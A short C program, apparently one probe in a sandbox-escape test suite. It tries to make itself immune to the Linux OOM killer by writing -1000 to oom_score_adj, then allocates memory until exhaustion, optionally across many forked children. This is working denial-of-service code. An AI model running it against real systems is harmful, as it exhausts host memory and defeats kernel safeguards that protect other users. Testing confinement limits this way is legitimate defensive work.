/* Allocates and touches memory until killed, after making itself immune to
 * the OOM killer if it can. argv[1]: "fork N" spreads it over N children. */
#include "atk.h"
#include <sys/mman.h>

static void eat(void)
{
	for (long mib = 1;; mib++) {
		char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED) {
			out("ATE %ld MiB then %s\n", mib - 1, ename(errno));
			_exit(3);
		}
		memset(p, 0x5a, 1 << 20);
	}
}

int main(int argc, char **argv)
{
	int fd = open("/proc/self/oom_score_adj", O_WRONLY);
	if (try("write -1000 to oom_score_adj", fd < 0 ? -1 : write(fd, "-1000", 5)) >= 0)
		escape("made itself immune to the OOM killer\n");
	/* Locked memory is bounded by RLIMIT_MEMLOCK, not the cgroup: only a
	 * probe, undone so that the bomb itself is not capped by it. */
	if (try("mlockall", mlockall(MCL_CURRENT | MCL_FUTURE)) >= 0)
		munlockall();
	out("TRY memory bomb: ok\n");
	if (argc > 2 && strcmp(argv[1], "fork") == 0) {
		int n = atoi(argv[2]);
		for (int i = 0; i < n; i++)
			if (fork() == 0)
				eat();
		for (;;)
			if (wait(NULL) < 0)
				break;
		eat();
	}
	eat();
}
